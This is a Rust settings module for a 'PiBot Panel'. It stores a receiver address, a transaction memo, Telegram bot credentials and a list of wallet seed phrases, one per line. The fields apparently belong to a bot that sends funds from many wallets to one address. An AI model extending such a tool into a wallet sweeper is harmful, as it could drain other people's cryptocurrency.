// Operator settings persisted next to the binary
pub mod store;

pub use store::SettingsStore;

use serde::{Deserialize, Serialize};

pub const DEFAULT_MEMO: &str = "PiBot Panel";

pub const RECEIVER_ADDRESS_KEY: &str = "RECEIVER_ADDRESS";
pub const MEMO_KEY: &str = "MEMO";
pub const TELEGRAM_TOKEN_KEY: &str = "TELEGRAM_BOT_TOKEN";
pub const TELEGRAM_CHAT_ID_KEY: &str = "TELEGRAM_CHAT_ID";

/// Everything the operator edits from the panel.
///
/// `phrases` is the raw phrases file, one seed phrase per line.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Settings {
    pub receiver_address: String,
    pub memo: String,
    #[serde(rename = "token")]
    pub telegram_token: String,
    #[serde(rename = "chatId")]
    pub telegram_chat_id: String,
    pub phrases: String,
}

impl Settings {
    /// Non-blank lines of the phrases file, trimmed
    pub fn phrase_list(&self) -> Vec<String> {
        self.phrases
            .lines()
            .map(str::trim)
            .filter(|line| !line.is_empty())
            .map(str::to_string)
            .collect()
    }

    /// Memo used on transactions; empty falls back to the default
    pub fn effective_memo(&self) -> &str {
        let memo = self.memo.trim();
        if memo.is_empty() {
            DEFAULT_MEMO
        } else {
            memo
        }
    }
}
